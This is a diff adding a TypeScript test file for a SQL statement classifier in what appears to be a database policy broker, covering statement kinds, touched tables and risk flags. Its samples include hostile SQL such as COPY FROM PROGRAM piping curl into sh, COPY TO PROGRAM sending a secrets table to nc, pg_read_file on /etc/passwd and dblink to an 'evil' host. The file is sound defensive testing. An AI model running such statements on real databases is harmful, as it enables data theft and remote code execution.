@@ -1,0 +1,407 @@
+import { before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { DEFAULT_DANGEROUS_FUNCTIONS } from '../../src/broker/config/schema.js';
+import type { SqlFlag } from '../../src/broker/config/types.js';
+import {
+  classifySql,
+  classifySqlUncached,
+  clearSqlClassifyCache,
+  loadSqlParser,
+  sqlClassifyCacheStats,
+  type ClassifiedStatement,
+  type SqlClassification,
+} from '../../src/broker/policy/sql-classify.js';
+import type { StatementKind } from '../../src/broker/policy/sql-kinds.js';
+import { Lru } from '../../src/broker/policy/lru.js';
+
+before(async () => {
+  await loadSqlParser();
+});
+
+// The defaults plus pg_sleep, which some operators add (it holds a backend for as long as asked).
+const opts = { dangerousFunctions: new Set([...DEFAULT_DANGEROUS_FUNCTIONS, 'pg_sleep']) };
+
+/**
+ * One sample: the statement at `at` (default 0) must have exactly these kinds, relations,
+ * functions and flags (unlisted arrays must be empty; `kinds` defaults to [kind]).
+ * `detail`/`text` are checked when given; `n` is the statement count (default 1).
+ */
+interface Row {
+  sql: string;
+  kind: StatementKind;
+  kinds?: StatementKind[];
+  reads?: string[];
+  writes?: string[];
+  functions?: string[];
+  flags?: SqlFlag[];
+  detail?: string;
+  text?: string;
+  hazard?: true;
+  n?: number;
+  at?: number;
+}
+
+const TABLE: Row[] = [
+  // --- select and its relations
+  { sql: 'SELECT id, name FROM users WHERE id = 1', kind: 'select', reads: ['public.users'] },
+  { sql: 'select * from "Weird"."Table"', kind: 'select', reads: ['Weird.Table'] },
+  { sql: 'select * from "MixedCase" m join Public.Orders o on o.uid = m.id', kind: 'select', reads: ['public.MixedCase', 'public.orders'] },
+  { sql: 'select "from" from "select"', kind: 'select', reads: ['public.select'] },
+  { sql: 'select * from "a.b"."c;d"', kind: 'select', reads: ['a.b.c;d'] },
+  { sql: 'select * from users u where u.id in (select uid from bans) and exists (select 1 from s.flags f)', kind: 'select', reads: ['public.users', 'public.bans', 's.flags'] },
+  { sql: 'select * from t, lateral (select * from u where u.id = t.id) x', kind: 'select', reads: ['public.t', 'public.u'] },
+  { sql: 'table secrets.keys', kind: 'select', reads: ['secrets.keys'] },
+  { sql: 'values (1), (2)', kind: 'select' },
+  { sql: 'select 1', kind: 'select' },
+  { sql: 'select lower(name), count(*) from users group by 1', kind: 'select', reads: ['public.users'], functions: ['lower', 'count'] },
+  { sql: 'select a from x union all select b from y', kind: 'select', reads: ['public.x', 'public.y'] },
+  { sql: 'select * from t for update', kind: 'select', kinds: ['select', 'lock'], reads: ['public.t'] },
+  { sql: 'select * from t for share skip locked', kind: 'select', kinds: ['select', 'lock'], reads: ['public.t'] },
+  { sql: 'select * into backup from users', kind: 'select', kinds: ['select', 'create'], reads: ['public.users'], writes: ['public.backup'], detail: 'SELECT INTO' },
+  { sql: 'declare c cursor for select * from t', kind: 'select', reads: ['public.t'], detail: 'DECLARE CURSOR' },
+  { sql: 'fetch 100 from c', kind: 'select', detail: 'FETCH' },
+  { sql: 'close c', kind: 'select', detail: 'CLOSE' },
+
+  // --- comments and odd quoting
+  { sql: 'select 1 /* ; drop table users; */', kind: 'select' },
+  { sql: 'select 1 -- ; delete from users\n', kind: 'select' },
+  { sql: '/* delete from x; */ select * from t -- drop table t', kind: 'select', reads: ['public.t'] },
+  { sql: 'select /* outer /* inner; delete from t */ still a comment; */ 1', kind: 'select' },
+  { sql: 'select $$DELETE FROM users$$', kind: 'select' },
+  { sql: "select $tag$ '; drop table users; -- $tag$ as x", kind: 'select' },
+  { sql: "select $a$ $b$ delete from t $b$ $a$", kind: 'select' },
+  { sql: "select E'\\'; delete from users; --'", kind: 'select' },
+  { sql: "select 'it''s; drop table x'", kind: 'select' },
+  { sql: "select * from t where name = 'x'' or 1=1; --'", kind: 'select', reads: ['public.t'] },
+  { sql: "SELECT U&'d\\0061t\\+000061' FROM t", kind: 'select', reads: ['public.t'] },
+
+  // --- insert / update / delete / merge
+  { sql: "INSERT INTO audit.log (msg) VALUES ('x')", kind: 'insert', writes: ['audit.log'] },
+  { sql: 'insert into t select * from s', kind: 'insert', writes: ['public.t'], reads: ['public.s'] },
+  { sql: 'insert into t values (1) on conflict (id) do update set a = excluded.a', kind: 'insert', kinds: ['insert', 'update'], writes: ['public.t'] },
+  { sql: 'insert into t values (1) on conflict do nothing', kind: 'insert', writes: ['public.t'] },
+  { sql: 'insert into t values (1) returning *', kind: 'insert', writes: ['public.t'] },
+  { sql: 'UPDATE accounts SET balance = 0', kind: 'update', writes: ['public.accounts'], flags: ['no_where'] },
+  { sql: 'update accounts set balance = 0 where id = 1', kind: 'update', writes: ['public.accounts'] },
+  // WHERE true is a WHERE: the flag is for the forgotten clause, not a deliberate predicate.
+  { sql: 'update accounts set balance = 0 where true', kind: 'update', writes: ['public.accounts'] },
+  { sql: 'update t set a = 1 where id = (select max(id) from u)', kind: 'update', writes: ['public.t'], reads: ['public.u'], functions: ['max'] },
+  { sql: 'update t set a = 1 where current of c', kind: 'update', writes: ['public.t'] },
+  { sql: 'DELETE FROM sessions', kind: 'delete', writes: ['public.sessions'], flags: ['no_where'] },
+  { sql: 'delete from sessions where expires < now()', kind: 'delete', writes: ['public.sessions'], functions: ['now'] },
+  { sql: 'delete from a using b where a.id = b.id', kind: 'delete', writes: ['public.a'], reads: ['public.b'] },
+  {
+    sql: 'merge into t using s on t.id = s.id when matched then delete when not matched then insert values (s.id)',
+    kind: 'merge', kinds: ['merge', 'delete', 'insert'], writes: ['public.t'], reads: ['public.s'],
+  },
+  { sql: 'merge into t using (select * from s) x on t.id = x.id when matched then update set a = x.a', kind: 'merge', kinds: ['merge', 'update'], writes: ['public.t'], reads: ['public.s'] },
+
+  // --- copy
+  { sql: 'COPY users TO STDOUT', kind: 'copy', reads: ['public.users'], detail: 'COPY TO STDOUT' },
+  { sql: 'copy users (id, email) from stdin with (format csv)', kind: 'copy', writes: ['public.users'], detail: 'COPY FROM STDIN' },
+  { sql: "COPY users FROM PROGRAM 'curl http://x | sh'", kind: 'copy', writes: ['public.users'], flags: ['copy_program'], detail: 'COPY FROM PROGRAM' },
+  { sql: "copy (select * from secrets.keys) to program 'nc host 1'", kind: 'copy', reads: ['secrets.keys'], flags: ['copy_program'], detail: 'COPY TO PROGRAM' },
+  { sql: 'copy (delete from t returning *) to stdout', kind: 'copy', kinds: ['copy', 'delete'], writes: ['public.t'], flags: ['no_where'] },
+  { sql: "copy t from '/etc/passwd'", kind: 'copy', writes: ['public.t'], detail: 'COPY FROM FILE' },
+
+  // --- DDL
+  { sql: 'CREATE TABLE s.t (id int primary key, ref int references s.parent(id))', kind: 'create', writes: ['s.t'], reads: ['s.parent'], detail: 'CREATE TABLE' },
+  { sql: "create table t (a text default pg_read_file('/etc/passwd'))", kind: 'create', writes: ['public.t'], functions: ['pg_read_file'], flags: ['dangerous_function'] },
+  { sql: 'create temp table tmp as select * from users', kind: 'create', writes: ['pg_temp.tmp'], reads: ['public.users'], detail: 'CREATE TABLE AS' },
+  { sql: 'create view v as select * from secrets.keys', kind: 'create', writes: ['public.v'], reads: ['secrets.keys'], detail: 'CREATE VIEW' },
+  { sql: 'create materialized view mv as select 1', kind: 'create', writes: ['public.mv'], detail: 'CREATE MATERIALIZED VIEW' },
+  { sql: 'create index concurrently on orders (created_at)', kind: 'create', writes: ['public.orders'], detail: 'CREATE INDEX' },
+  { sql: 'create schema scratch', kind: 'create', writes: ['scratch.*'], detail: 'CREATE SCHEMA' },
+  { sql: 'create foreign table ft (a int) server s', kind: 'create', writes: ['public.ft'], detail: 'CREATE FOREIGN TABLE' },
+  // A SQL-standard body is parsed: what it would do counts now.
+  { sql: 'create function f() returns int language sql begin atomic delete from t; select 1; end', kind: 'create', kinds: ['create', 'delete'], writes: ['public.t'], flags: ['no_where'], detail: 'CREATE FUNCTION' },
+  // A string body is opaque.
+  { sql: 'create function f() returns int as $$ delete from t; select 1 $$ language sql', kind: 'create', detail: 'CREATE FUNCTION' },
+  { sql: 'create trigger trg before insert on s.t for each row execute function f()', kind: 'create', writes: ['s.t'], detail: 'CREATE TRIGGER' },
+  { sql: 'create extension dblink', kind: 'create', detail: 'CREATE EXTENSION' },
+  { sql: 'create role r superuser', kind: 'create', detail: 'CREATE ROLE' },
+  { sql: 'alter table users add column x int', kind: 'alter', writes: ['public.users'], detail: 'ALTER TABLE' },
+  { sql: 'alter table users rename to people', kind: 'alter', writes: ['public.people', 'public.users'] },
+  { sql: 'alter table scratch.t set schema public', kind: 'alter', writes: ['public.t', 'scratch.t'] },
+  { sql: 'alter table p attach partition s.c for values in (1)', kind: 'alter', writes: ['public.p', 's.c'] },
+  { sql: "alter system set shared_buffers = '1GB'", kind: 'alter', detail: 'ALTER SYSTEM' },
+  { sql: 'alter role bob superuser', kind: 'alter', detail: 'ALTER ROLE' },
+  { sql: 'drop table users', kind: 'drop', writes: ['public.users'], detail: 'DROP TABLE' },
+  { sql: 'DROP TABLE IF EXISTS a, s.b CASCADE', kind: 'drop', writes: ['public.a', 's.b'] },
+  { sql: 'drop schema secrets cascade', kind: 'drop', writes: ['secrets.*'], detail: 'DROP SCHEMA' },
+  { sql: 'drop function f(int)', kind: 'drop', detail: 'DROP FUNCTION' },
+  { sql: 'drop database prod', kind: 'drop', detail: 'DROP DATABASE' },
+  { sql: 'drop trigger trg on s.t', kind: 'drop', writes: ['s.t'] },
+  { sql: 'truncate a, s.b', kind: 'truncate', writes: ['public.a', 's.b'] },
+  { sql: "comment on table s.t is 'x'", kind: 'comment', writes: ['s.t'], detail: 'COMMENT ON TABLE' },
+  { sql: 'comment on column s.t.c is null', kind: 'comment', writes: ['s.t'] },
+  { sql: 'refresh materialized view concurrently s.mv', kind: 'refresh', writes: ['s.mv'] },
+
+  // --- privileges and session settings
+  { sql: 'grant select on users to bob', kind: 'grant', writes: ['public.users'], detail: 'GRANT' },
+  { sql: 'grant all on all tables in schema secrets to bob', kind: 'grant', writes: ['secrets.*'] },
+  { sql: 'revoke select on users from bob', kind: 'revoke', writes: ['public.users'], detail: 'REVOKE' },
+  { sql: 'grant admin to bob', kind: 'grant', detail: 'GRANT ROLE' },
+  { sql: 'SET ROLE admin', kind: 'set', detail: 'SET ROLE' },
+  { sql: 'set local role admin', kind: 'set', detail: 'SET LOCAL ROLE' },
+  { sql: "set session authorization 'postgres'", kind: 'set', detail: 'SET SESSION AUTHORIZATION' },
+  { sql: 'reset role', kind: 'reset', detail: 'RESET ROLE' },
+  { sql: 'reset session authorization', kind: 'reset', detail: 'RESET SESSION AUTHORIZATION' },
+  { sql: 'set search_path = secrets, public', kind: 'set', detail: 'SET search_path' },
+  { sql: 'set statement_timeout to 5000', kind: 'set', detail: 'SET statement_timeout' },
+  { sql: 'reset all', kind: 'reset', detail: 'RESET ALL' },
+  { sql: 'set transaction read only', kind: 'set' },
+  { sql: 'set constraints all deferred', kind: 'set', detail: 'SET CONSTRAINTS' },
+  { sql: "set client_encoding to 'UTF8'", kind: 'set' },
+  { sql: "SET client_encoding = 'SJIS'", kind: 'set', hazard: true },
+  { sql: "set names 'big5'", kind: 'set', hazard: true },
+  { sql: 'set standard_conforming_strings = off', kind: 'set', hazard: true },
+  { sql: "select set_config('standard_conforming_strings', 'off', false)", kind: 'select', functions: ['set_config'], flags: ['dangerous_function'], hazard: true },
+  { sql: "select set_config('role', 'admin', false)", kind: 'select', functions: ['set_config'], flags: ['dangerous_function'] },
+  { sql: 'show search_path', kind: 'show' },
+  { sql: 'discard all', kind: 'discard' },
+
+  // --- DO, CALL, EXPLAIN
+  { sql: 'DO $$ BEGIN DELETE FROM users; END $$', kind: 'do', detail: 'DO' },
+  { sql: 'do language plpgsql $body$ begin perform pg_terminate_backend(1); end $body$', kind: 'do' },
+  { sql: 'call refresh_stats(1)', kind: 'call', functions: ['refresh_stats'] },
+  { sql: "call ops.dblink_exec('x')", kind: 'call', functions: ['ops.dblink_exec'], flags: ['dangerous_function'] },
+  { sql: 'explain select * from users', kind: 'explain', reads: ['public.users'], detail: 'EXPLAIN' },
+  // Plain EXPLAIN runs nothing: the target is only read (for its plan).
+  { sql: 'explain delete from users', kind: 'explain', reads: ['public.users'] },
+  { sql: 'EXPLAIN ANALYZE DELETE FROM users', kind: 'explain', kinds: ['explain', 'delete'], writes: ['public.users'], flags: ['no_where', 'explain_analyze'], detail: 'EXPLAIN ANALYZE' },
+  { sql: 'explain analyse select * from t', kind: 'explain', kinds: ['explain', 'select'], reads: ['public.t'], flags: ['explain_analyze'] },
+  { sql: 'explain (analyze, buffers) update t set a = 1 where id = 2', kind: 'explain', kinds: ['explain', 'update'], writes: ['public.t'], flags: ['explain_analyze'] },
+  { sql: 'explain (analyze false) delete from t', kind: 'explain', reads: ['public.t'], detail: 'EXPLAIN' },
+  { sql: 'explain (analyze off, costs off) select 1', kind: 'explain' },
+  { sql: 'explain (analyze 0) select 1', kind: 'explain' },
+  { sql: 'explain (analyze 1) select 1', kind: 'explain', kinds: ['explain', 'select'], flags: ['explain_analyze'] },
+  { sql: 'explain (analyze on) with d as (delete from t returning 1) select * from d', kind: 'explain', kinds: ['explain', 'select', 'delete'], writes: ['public.t'], flags: ['writable_cte', 'no_where', 'explain_analyze'] },
+  // Listed functions flag even under plain EXPLAIN: the planner may evaluate them.
+  { sql: 'explain select pg_sleep(10)', kind: 'explain', functions: ['pg_sleep'], flags: ['dangerous_function'] },
+
+  // --- transaction control
+  { sql: 'BEGIN', kind: 'transaction', detail: 'BEGIN' },
+  { sql: 'start transaction isolation level serializable', kind: 'transaction', detail: 'START TRANSACTION' },
+  { sql: 'COMMIT', kind: 'transaction', detail: 'COMMIT' },
+  { sql: 'end', kind: 'transaction', detail: 'COMMIT' },
+  { sql: 'rollback', kind: 'transaction', detail: 'ROLLBACK' },
+  { sql: 'savepoint s1', kind: 'transaction', detail: 'SAVEPOINT' },
+  { sql: 'release savepoint s1', kind: 'transaction', detail: 'RELEASE' },
+  { sql: 'rollback to savepoint s1', kind: 'transaction', detail: 'ROLLBACK TO SAVEPOINT' },
+  { sql: "prepare transaction 'tx1'", kind: 'transaction', detail: 'PREPARE TRANSACTION' },
+  { sql: "commit prepared 'tx1'", kind: 'transaction', detail: 'COMMIT PREPARED' },
+
+  // --- the rest of the kinds
+  { sql: 'listen jobs', kind: 'listen' },
+  { sql: "notify jobs, 'x'", kind: 'notify' },
+  { sql: 'unlisten *', kind: 'unlisten' },
+  // PREPARE carries what it prepares, so allowing `prepare` cannot launder a delete.
+  { sql: 'prepare p as delete from t where id = $1', kind: 'prepare', kinds: ['prepare', 'delete'], writes: ['public.t'] },
+  { sql: 'prepare q (int) as select * from t where id = $1', kind: 'prepare', kinds: ['prepare', 'select'], reads: ['public.t'] },
+  { sql: 'execute p(1)', kind: 'execute' },
+  { sql: 'deallocate all', kind: 'deallocate' },
+  { sql: 'lock table t in access exclusive mode', kind: 'lock', reads: ['public.t'] },
+  { sql: 'vacuum full s.t', kind: 'vacuum', writes: ['s.t'] },
+  { sql: 'analyze t', kind: 'analyze', reads: ['public.t'] },
+  { sql: 'checkpoint', kind: 'other', detail: 'CHECKPOINT' },
+  { sql: "load 'auto_explain'", kind: 'other', detail: 'LOAD' },
+
+  // --- writable CTEs and CTE scoping
+  { sql: 'WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d', kind: 'select', kinds: ['select', 'delete'], writes: ['public.users'], flags: ['writable_cte', 'no_where'] },
+  { sql: 'with u as (update t set a = 1 where id = 2 returning id) select * from u', kind: 'select', kinds: ['select', 'update'], writes: ['public.t'], flags: ['writable_cte'] },
+  {
+    sql: 'insert into archive with d as (delete from live where ts < now() returning *) select * from d',
+    kind: 'insert', kinds: ['insert', 'delete'], writes: ['public.archive', 'public.live'], functions: ['now'], flags: ['writable_cte'],
+  },
+  { sql: 'with i as (insert into t values (1) returning *) update s set a = 1 where id in (select id from i)', kind: 'update', kinds: ['update', 'insert'], writes: ['public.t', 'public.s'], flags: ['writable_cte'] },
+  // Only top-level WITH may modify data in PostgreSQL, but a nested one is still reported.
+  { sql: 'select * from (with d as (delete from t returning 1) select * from d) x', kind: 'select', kinds: ['select', 'delete'], writes: ['public.t'], flags: ['writable_cte', 'no_where'] },
+  // A non-recursive CTE body does not see its own name: the inner `users` is the table.
+  { sql: 'with users as (select * from users) select * from users', kind: 'select', reads: ['public.users'] },
+  { sql: 'with a as (select 1), b as (select * from a, t) select * from b, a', kind: 'select', reads: ['public.t'] },
+  { sql: 'with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) select * from r', kind: 'select' },
+  { sql: 'with x as (select * from a) select * from x join s.x on true', kind: 'select', reads: ['public.a', 's.x'] },
+
+  // --- dangerous functions wherever they hide
+  { sql: 'select pg_terminate_backend(pid) from pg_stat_activity', kind: 'select', reads: ['public.pg_stat_activity'], functions: ['pg_terminate_backend'], flags: ['dangerous_function'] },
+  { sql: 'select * from users where pg_sleep(1) is not null', kind: 'select', reads: ['public.users'], functions: ['pg_sleep'], flags: ['dangerous_function'] },
+  { sql: "select (select (select lo_export(1, '/tmp/x')))", kind: 'select', functions: ['lo_export'], flags: ['dangerous_function'] },
+  { sql: "with x as (select pg_read_file('/etc/passwd') as c) select c from x", kind: 'select', functions: ['pg_read_file'], flags: ['dangerous_function'] },
+  { sql: "select pg_catalog.pg_read_file('/etc/passwd')", kind: 'select', functions: ['pg_catalog.pg_read_file'], flags: ['dangerous_function'] },
+  { sql: "select PG_READ_FILE('x')", kind: 'select', functions: ['pg_read_file'], flags: ['dangerous_function'] },
+  { sql: "select * from dblink('host=evil', 'select 1') as t(a int)", kind: 'select', functions: ['dblink'], flags: ['dangerous_function'] },
+  { sql: "insert into t values (pg_read_file('x'))", kind: 'insert', writes: ['public.t'], functions: ['pg_read_file'], flags: ['dangerous_function'] },
+  { sql: "update t set a = 1 where id = 1 and set_config('role', 'x', true) is not null", kind: 'update', writes: ['public.t'], functions: ['set_config'], flags: ['dangerous_function'] },
+
+  // --- several statements in one string
+  { sql: 'select 1; delete from users', kind: 'select', flags: ['multi_statement'], n: 2, text: 'select 1' },
+  { sql: 'select 1; delete from users', at: 1, kind: 'delete', writes: ['public.users'], flags: ['multi_statement', 'no_where'], n: 2, text: 'delete from users' },
+  { sql: 'begin; update t set a = 1 where id = 1; commit;', at: 1, kind: 'update', writes: ['public.t'], flags: ['multi_statement'], n: 3, text: 'update t set a = 1 where id = 1' },
+  { sql: 'select 1;;; select 2', at: 1, kind: 'select', flags: ['multi_statement'], n: 2, text: 'select 2' },
+  { sql: "select 'é'; select \"naïve\" from t", at: 1, kind: 'select', reads: ['public.t'], flags: ['multi_statement'], n: 2, text: 'select "naïve" from t' },
+  { sql: 'select 1 /* ; */; /* x */ drop table "Weird"."Table" -- bye', at: 1, kind: 'drop', writes: ['Weird.Table'], flags: ['multi_statement'], n: 2, text: 'drop table "Weird"."Table" -- bye' },
+];
+
+function check(row: Row, c: SqlClassification): string[] {
+  if (!c.ok) return [`did not parse: ${c.error}`];
+  const problems: string[] = [];
+  const n = row.n ?? 1;
+  if (c.statements.length !== n) problems.push(`statements: got ${c.statements.length}, want ${n}`);
+  const s: ClassifiedStatement | undefined = c.statements[row.at ?? 0];
+  if (!s) return [...problems, 'no such statement'];
+  const want: Record<string, unknown> = {
+    kind: row.kind,
+    kinds: row.kinds ?? [row.kind],
+    reads: row.reads ?? [],
+    writes: row.writes ?? [],
+    functions: row.functions ?? [],
+    flags: row.flags ?? [],
+  };
+  if (row.detail !== undefined) want['detail'] = row.detail;
+  if (row.text !== undefined) want['text'] = row.text;
+  for (const [k, v] of Object.entries(want)) {
+    const got = (s as unknown as Record<string, unknown>)[k];
+    if (JSON.stringify(got) !== JSON.stringify(v)) problems.push(`${k}: got ${JSON.stringify(got)}, want ${JSON.stringify(v)}`);
+  }
+  if ((s.hazard !== undefined) !== (row.hazard === true)) problems.push(`hazard: got ${JSON.stringify(s.hazard)}`);
+  return problems;
+}
+
+test('decision table: kinds, relations, functions and flags of each sample', () => {
+  assert.ok(TABLE.length >= 80, `only ${TABLE.length} samples`);
+  const failures: string[] = [];
+  for (const row of TABLE) {
+    for (const p of check(row, classifySql(row.sql, opts))) failures.push(`${JSON.stringify(row.sql)}${row.at ? `[${row.at}]` : ''}: ${p}`);
+  }
+  assert.deepEqual(failures, []);
+});
+
+test('every statement kind appears in the table', () => {
+  const seen = new Set(TABLE.map((r) => r.kind));
+  const all: StatementKind[] = ['select', 'insert', 'update', 'delete', 'merge', 'copy', 'create', 'alter', 'drop', 'truncate', 'grant', 'revoke', 'set', 'reset', 'do', 'call', 'explain', 'transaction', 'listen', 'notify', 'unlisten', 'prepare', 'execute', 'deallocate', 'lock', 'vacuum', 'analyze', 'show', 'discard', 'comment', 'refresh', 'other'];
+  assert.deepEqual(all.filter((k) => !seen.has(k)), []);
+});
+
+test('unparseable text fails closed with the parser message and position', () => {
+  const cases: [string, RegExp, number | undefined][] = [
+    ['selec 1', /^syntax error at or near "selec"$/, 0],
+    ['select * from', /^syntax error at end of input$/, 13],
+    ["select 'unterminated", /^unterminated quoted string/, 7],
+    ['select $$ never closed', /^unterminated dollar-quoted string/, 7],
+    ['select 1; drop tabel users', /syntax error at or near "tabel"/, 15],
+    ['select 1 /* unterminated comment', /^unterminated \/\* comment/, 9],
+    ['select "" from t', /zero-length delimited identifier/, 7],
+  ];
+  for (const [sql, message, position] of cases) {
+    const c = classifySql(sql, opts);
+    assert.equal(c.ok, false, sql);
+    if (c.ok) continue;
+    assert.match(c.error, message, sql);
+    assert.equal(c.position, position, sql);
+    assert.equal(c.fingerprint, createHash('sha256').update(sql).digest('hex'), sql);
+  }
+});
+
+test('text with a NUL byte is refused: the server would stop reading at the NUL', () => {
+  const c = classifySql('select 1\0; drop table users', opts);
+  assert.equal(c.ok, false);
+  assert.match(c.ok ? '' : c.error, /NUL/);
+});
+
+test('empty text, whitespace and comments only: zero statements', () => {
+  for (const sql of ['', '   \n\t', '-- only a comment', '/* x */ ;', ';;']) {
+    const c = classifySql(sql, opts);
+    assert.equal(c.ok, true, JSON.stringify(sql));
+    assert.deepEqual(c.ok ? c.statements : null, [], JSON.stringify(sql));
+  }
+});
+
+test('deeply nested expressions are classified; absurd nesting fails closed', () => {
+  // Left-deep trees as ORMs build them (`a + b + c …`): no stack overflow.
+  const wide = 'select ' + Array.from({ length: 3000 }, (_, i) => `x${i}`).join(' + ') + ' from t';
+  const ok = classifySql(wide, opts);
+  assert.equal(ok.ok, true);
+  assert.deepEqual(ok.ok ? ok.statements[0]!.reads : null, ['public.t']);
+  const absurd = 'select ' + Array.from({ length: 50_000 }, (_, i) => `x${i}`).join(' + ');
+  const bad = classifySql(absurd, opts);
+  assert.equal(bad.ok, false);
+  // The parser is still usable afterwards.
+  assert.equal(classifySql('select 42', opts).ok, true);
+});
+
+test('fingerprint ignores whitespace, comments and keyword case but not constants', () => {
+  const fp = (sql: string): string => classifySql(sql, opts).fingerprint;
+  const base = fp('select * from users where id = 1');
+  assert.match(base, /^[0-9a-f]{64}$/);
+  assert.equal(fp('SELECT *\n  FROM users /* hi */ WHERE id = 1 -- x'), base);
+  assert.notEqual(fp('select * from users where id = 2'), base);
+  assert.notEqual(fp("select * from users where id = '1'"), base);
+  assert.notEqual(fp('select * from users where id = 1; select 1'), base);
+});
+
+test('dangerous functions: bare entries match any schema, qualified entries their own name and bare calls', () => {
+  const f = (sql: string, list: string[]): boolean => {
+    const c = classifySqlUncached(sql, { dangerousFunctions: new Set(list) });
+    return c.ok && c.statements[0]!.flags.includes('dangerous_function');
+  };
+  assert.equal(f('select pg_catalog.pg_read_file($1)', ['pg_read_file']), true);
+  assert.equal(f('select other.pg_read_file($1)', ['pg_read_file']), true);
+  assert.equal(f('select ops.purge()', ['ops.purge']), true);
+  assert.equal(f('select purge()', ['ops.purge']), true, 'search_path may resolve a bare call to ops.purge');
+  assert.equal(f('select other.purge()', ['ops.purge']), false);
+  assert.equal(f('select pg_read_file($1)', []), false);
+  assert.equal(f('select pg_read_file_x($1)', ['pg_read_file']), false);
+});
+
+test('cache: the same text returns the same object; another function list re-flags without reparsing', () => {
+  clearSqlClassifyCache();
+  const sql = "select pg_read_file('/etc/hosts') from t where id = 7";
+  const before = sqlClassifyCacheStats();
+  const a = classifySql(sql, opts);
+  const b = classifySql(sql, opts);
+  assert.equal(a, b);
+  const mid = sqlClassifyCacheStats();
+  assert.equal(mid.hits - before.hits, 1);
+  assert.equal(mid.misses - before.misses, 1);
+  assert.equal(mid.entries, 1);
+
+  const none = new Set<string>();
+  const c = classifySql(sql, { dangerousFunctions: none });
+  assert.equal(c.ok && c.statements[0]!.flags.includes('dangerous_function'), false);
+  assert.equal(a.ok && a.statements[0]!.flags.includes('dangerous_function'), true, 'earlier results are not mutated');
+  assert.equal(c.fingerprint, a.fingerprint);
+  assert.equal(sqlClassifyCacheStats().misses, mid.misses, 'a different list reuses the parsed entry');
+  assert.equal(classifySql(sql, { dangerousFunctions: none }), c);
+
+  // Shared results are frozen: a caller cannot corrupt the cache.
+  assert.throws(() => (a.ok ? a.statements[0]!.flags : []).push('no_where'), TypeError);
+  assert.throws(() => Object.assign(c, { fingerprint: 'x' }), TypeError);
+});
+
+test('Lru: bounded by entries and by bytes, least recently used goes first', () => {
+  const lru = new Lru<string, string>({ maxEntries: 3, maxBytes: 100, sizeOf: (k, v) => k.length + v.length });
+  lru.set('a', 'x');
+  lru.set('b', 'x');
+  lru.set('c', 'x');
+  assert.equal(lru.get('a'), 'x'); // a is now the youngest
+  lru.set('d', 'x');
+  assert.equal(lru.get('b'), undefined, 'b was the least recently used');
+  assert.deepEqual([lru.get('a'), lru.get('c'), lru.get('d')], ['x', 'x', 'x']);
+  assert.equal(lru.size, 3);
+
+  lru.set('big', 'y'.repeat(97)); // 100 bytes: the others must go to fit
+  assert.equal(lru.size, 1);
+  assert.ok(lru.stats().bytes <= 100);
+  lru.set('huge', 'z'.repeat(200)); // larger than the whole budget: not kept, nothing evicted
+  assert.equal(lru.get('huge'), undefined);
+  assert.equal(lru.get('big')?.length, 97);
+
+  lru.set('big', 'small'); // replacing an entry updates the byte count
+  assert.equal(lru.stats().bytes, 8);
+  const s = lru.stats();
+  assert.equal(s.entries, 1);
+  assert.ok(s.evictions >= 4 && s.hits >= 5 && s.misses >= 2);
+  assert.throws(() => new Lru({ maxEntries: 0, maxBytes: 1, sizeOf: () => 1 }), RangeError);
+});
